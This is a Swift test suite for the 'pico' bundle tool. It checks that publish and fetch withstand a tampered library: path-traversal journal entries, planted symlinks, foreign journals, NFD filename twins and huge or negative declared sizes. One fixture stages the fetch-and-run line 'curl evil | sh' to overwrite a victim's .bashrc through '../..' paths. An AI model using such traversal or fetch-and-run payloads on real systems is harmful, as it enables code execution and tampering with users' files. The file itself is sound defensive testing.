import Foundation
import PicoCore
import PicoTestSupport
import Testing

/// A library folder or drive someone else wrote to: planted journals, symlinks and manifests
/// must never make `pico publish` or `pico fetch` touch anything outside LIB/NAME and its
/// journal folder LIB/.pico/NAME, nor crash.
@Suite struct HostileLibraryTests {
    /// A library `lib` holding the bundle "Site" at lib/site, and a victim folder beside it.
    static func library(in folder: TemporaryFolder) throws -> (lib: URL, bundle: URL, victim: URL) {
        let bundle = try folder.makeBundle(["index.html": "<h1>v1</h1>", "sub/page.html": "<p>page v1</p>"], under: "v1", name: "Site")
        let lib = folder.path("lib")
        try FileManager.default.createDirectory(at: lib, withIntermediateDirectories: true)
        let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        try #require(published.status == 0, "\(published.stderr)")
        let victim = folder.write(["victim/.ssh/id_ed25519": "SECRET KEY", "victim/.bashrc": "alias ls=ls",
                                   "victim/page.html": "the victim's page"]).appendingPathComponent("victim")
        return (lib, bundle, victim)
    }

    static func victimIsIntact(_ victim: URL) throws {
        #expect(try String(contentsOf: victim.appendingPathComponent(".ssh/id_ed25519"), encoding: .utf8) == "SECRET KEY")
        #expect(try String(contentsOf: victim.appendingPathComponent(".bashrc"), encoding: .utf8) == "alias ls=ls")
        #expect(try String(contentsOf: victim.appendingPathComponent("page.html"), encoding: .utf8) == "the victim's page")
    }

    static func plantJournal(_ json: String, in lib: URL, staged: [String: String] = [:]) throws {
        let journal = lib.appendingPathComponent(".pico/site")
        try FileManager.default.createDirectory(at: journal, withIntermediateDirectories: true)
        try Data(json.utf8).write(to: journal.appendingPathComponent("journal.json"))
        for (path, text) in staged {
            let file = journal.appendingPathComponent(path)
            try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: file)
        }
    }

    @Test func aJournalNamingPathsOutsideTheBundleIsDiscardedUnapplied() throws {
        let folder = TemporaryFolder()
        let (lib, bundle, victim) = try Self.library(in: folder)
        let id = try #require(folder.bundleID(bundle))
        // staged/../../victim/.bashrc is lib/.pico/victim/.bashrc: the attacker plants it too.
        try Self.plantJournal("""
            {"id":"\(id)","replaced":["../../victim/.bashrc"],"added":[],"removed":["../../victim/.ssh"]}
            """, in: lib, staged: ["../victim/.bashrc": "curl evil | sh", "staged/keep": "", "backup/keep": ""])
        let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        #expect(published.status == 0, "\(published.stderr)")
        #expect(published.stderr.contains("discarded the journal") && published.stderr.contains("unsafe path"), "\(published.stderr)")
        try Self.victimIsIntact(victim)
        #expect(try TestEnvironment.pico("verify", lib.path).status == 0)
        #expect(!FileManager.default.fileExists(atPath: lib.appendingPathComponent(".pico/site").path))
    }

    @Test func aJournalOfAnotherBundleIsDiscarded() throws {
        let folder = TemporaryFolder()
        let (lib, bundle, _) = try Self.library(in: folder)
        // Safe paths, but the id is not that of the manifest it would move in.
        try Self.plantJournal("""
            {"id":"\(String(repeating: "0", count: 64))","replaced":["index.html"],"added":[],"removed":[]}
            """, in: lib, staged: ["staged/index.html": "<h1>defaced</h1>"])
        #expect(try TestEnvironment.pico("verify", lib.path).status == 0, "a foreign journal does not make an interrupted publish")
        let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        #expect(published.status == 0, "\(published.stderr)")
        #expect(published.stderr.contains("is for bundle 0000"), "\(published.stderr)")
        #expect(folder.read("lib/site/index.html") == "<h1>v1</h1>")
    }

    @Test func aHugeSparseJournalOrManifestIsNotReadIntoMemory() throws {
        let folder = TemporaryFolder()
        let (lib, bundle, _) = try Self.library(in: folder)
        try Self.plantJournal("{}", in: lib)
        #expect(truncate(lib.appendingPathComponent(".pico/site/journal.json").path, 100 << 30) == 0)
        let big = folder.write(["lib/big/index.html": "x"]).appendingPathComponent("lib/big/pico-manifest.json")
        #expect(FileManager.default.createFile(atPath: big.path, contents: nil) && truncate(big.path, 100 << 30) == 0)
        let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        #expect(published.status == 0 && published.stderr.contains("not a journal pico can read"), "\(published.stderr)")
        let verified = try TestEnvironment.pico("verify", lib.appendingPathComponent("big").path)
        #expect(verified.status == 1 && verified.stderr.contains("more than pico reads"), "\(verified.stderr)")
    }

    @Test func aSymlinkPlantedInsideTheBundleFolderIsNotWrittenThrough() throws {
        let folder = TemporaryFolder()
        let (lib, _, victim) = try Self.library(in: folder)
        let sub = lib.appendingPathComponent("site/sub")
        try FileManager.default.removeItem(at: sub)
        try FileManager.default.createSymbolicLink(at: sub, withDestinationURL: victim)
        let v2 = try folder.makeBundle(["index.html": "<h1>v2</h1>", "sub/page.html": "<p>page v2</p>"], under: "v2", name: "Site")
        let published = try TestEnvironment.pico("publish", v2.path, "--to", lib.path)
        #expect(published.status == 0, "\(published.stderr)")
        try Self.victimIsIntact(victim)
        #expect(folder.read("lib/site/sub/page.html") == "<p>page v2</p>")
        #expect(try TestEnvironment.pico("verify", lib.appendingPathComponent("site").path).status == 0)
    }

    @Test func aSymlinkedJournalFolderOrBundleFolderIsRefused() throws {
        let folder = TemporaryFolder()
        let (lib, bundle, victim) = try Self.library(in: folder)
        // .pico pointing at the victim: the old journal folder would have been removed there.
        let elsewhere = folder.write(["elsewhere/site/keep.txt": "keep"]).appendingPathComponent("elsewhere")
        try FileManager.default.createSymbolicLink(at: lib.appendingPathComponent(".pico"), withDestinationURL: elsewhere)
        let refused = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        #expect(refused.status == 1 && refused.stderr.contains(".pico is a symlink"), "\(refused.stderr)")
        #expect(folder.read("elsewhere/site/keep.txt") == "keep")
        try FileManager.default.removeItem(at: lib.appendingPathComponent(".pico"))

        // The bundle folder itself a symlink to another bundle folder.
        let theirs = folder.path("theirs")
        try FileManager.default.moveItem(at: lib.appendingPathComponent("site"), to: theirs)
        try FileManager.default.createSymbolicLink(at: lib.appendingPathComponent("site"), withDestinationURL: theirs)
        let v2 = try folder.makeBundle(["index.html": "<h1>v2</h1>"], under: "v2", name: "Site")
        let through = try TestEnvironment.pico("publish", v2.path, "--to", lib.path)
        #expect(through.status == 1, "\(through.stdout)\(through.stderr)")
        #expect(folder.read("theirs/index.html") == "<h1>v1</h1>")
        try Self.victimIsIntact(victim)
    }

    @Test func anNFDTwinInALibraryIsUnlistedAndThenRemovedByPublish() throws {
        let folder = TemporaryFolder()
        let bundle = try folder.makeBundle(["index.html": "<h1>v1</h1>", "caf\u{E9}.html": "<p>listed</p>"], under: "v1", name: "Site")
        let lib = folder.path("lib")
        try FileManager.default.createDirectory(at: lib, withIntermediateDirectories: true)
        #expect(try TestEnvironment.pico("publish", bundle.path, "--to", lib.path).status == 0)
        // Foundation would normalise the name: write it with the bytes of NFD.
        let twin = Array(lib.appendingPathComponent("site").path.utf8) + Array("/cafe\u{301}.html".utf8) + [0]
        let descriptor = twin.withUnsafeBufferPointer { $0.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_WRONLY | O_CREAT, 0o644) } }
        try #require(descriptor >= 0)
        close(descriptor)
        let verified = try TestEnvironment.pico("verify", lib.path)
        #expect(verified.status == 1 && verified.stderr.contains("unlisted: cafe\u{301}.html"), "\(verified.stdout)\(verified.stderr)")
        #expect(try TestEnvironment.pico("publish", bundle.path, "--to", lib.path).status == 0)
        #expect(try TestEnvironment.pico("verify", lib.path).status == 0)
        #expect(try FileManager.default.contentsOfDirectory(atPath: lib.appendingPathComponent("site").path).count == 4)
    }

    @Test func aSymlinkedManifestIsNotABundleFile() throws {
        let folder = TemporaryFolder()
        let bundle = try folder.makeBundle(["index.html": "<h1>x</h1>"], under: "b", name: "B")
        let real = folder.path("elsewhere.json")
        try FileManager.default.moveItem(at: bundle.appendingPathComponent("pico-manifest.json"), to: real)
        try FileManager.default.createSymbolicLink(at: bundle.appendingPathComponent("pico-manifest.json"), withDestinationURL: real)
        let verified = try TestEnvironment.pico("verify", bundle.path)
        #expect(verified.status == 1 && verified.stderr.contains("not-a-regular-file: pico-manifest.json"), "\(verified.stderr)")
        #expect(try TestEnvironment.pico("fetch", bundle.path, "-o", folder.path("out").path).status == 1)
    }

    @Test func hugeDeclaredSizesNeitherTrapNorPassVerify() throws {
        let folder = TemporaryFolder()
        let (lib, bundle, _) = try Self.library(in: folder)
        // A planted "bundle" whose sizes add up past Int.max.
        let huge = """
            {"entry":"a","files":[{"path":"a","sha256":"\(String(repeating: "0", count: 64))","size":9223372036854775807,"type":"text/html"},\
            {"path":"b","sha256":"\(String(repeating: "0", count: 64))","size":9223372036854775807,"type":"text/html"}],\
            "format":"pico-bundle/1","id":"\(String(repeating: "0", count: 64))","name":"huge"}
            """
        folder.write(["lib/huge/pico-manifest.json": huge, "lib/huge/SHA256SUMS": "", "lib/negative/pico-manifest.json":
            huge.replacingOccurrences(of: "9223372036854775807", with: "-5"), "lib/negative/SHA256SUMS": ""])
        let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
        #expect(published.status == 0, "\(published.stderr)")
        let verified = try TestEnvironment.pico("verify", lib.appendingPathComponent("huge").path)
        #expect(verified.status == 1 && verified.stderr.contains("larger than any bundle pico reads"), "\(verified.stderr)")
        let negative = try TestEnvironment.pico("verify", lib.appendingPathComponent("negative").path)
        #expect(negative.status == 1 && negative.stderr.contains("the size -5 is negative"), "\(negative.stderr)")
    }

    @Test func fetchStopsAtTheManifestSizeAndNeverFollowsALink() throws {
        let folder = TemporaryFolder()
        let bundle = try folder.makeBundle(["index.html": "<h1>x</h1>", "big.bin": "ten bytes!", "sub/page.html": "<p>p</p>"],
                                           under: "b", name: "B")
        // A 3 GiB sparse file listed as 10 bytes.
        let big = bundle.appendingPathComponent("big.bin").path
        #expect(truncate(big, 3 << 30) == 0)
        let started = Date()
        var fetched = try TestEnvironment.pico("fetch", bundle.path, "-o", folder.path("out").path)
        #expect(fetched.status == 1)
        #expect(fetched.stderr.contains("changed: big.bin: size is 3221225472 bytes, the manifest says 10"), "\(fetched.stderr)")
        #expect(Date().timeIntervalSince(started) < 10, "the file was copied whole")
        #expect(!FileManager.default.fileExists(atPath: folder.path("out").path))
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.url.path).allSatisfy { !$0.contains("pico-staging") })
        #expect(truncate(big, 0) == 0)
        try Data("ten bytes!".utf8).write(to: URL(fileURLWithPath: big))
        #expect(try TestEnvironment.pico("verify", bundle.path).status == 0)

        // A symlinked folder whose target holds the listed file, byte for byte.
        let outside = folder.write(["outside/page.html": "<p>p</p>"]).appendingPathComponent("outside")
        try FileManager.default.removeItem(at: bundle.appendingPathComponent("sub"))
        try FileManager.default.createSymbolicLink(at: bundle.appendingPathComponent("sub"), withDestinationURL: outside)
        fetched = try TestEnvironment.pico("fetch", bundle.path, "-o", folder.path("out").path)
        #expect(fetched.status == 1)
        #expect(fetched.stderr.contains("not-a-regular-file: sub/page.html"), "\(fetched.stderr)")
        #expect(!FileManager.default.fileExists(atPath: folder.path("out").path))
    }
}
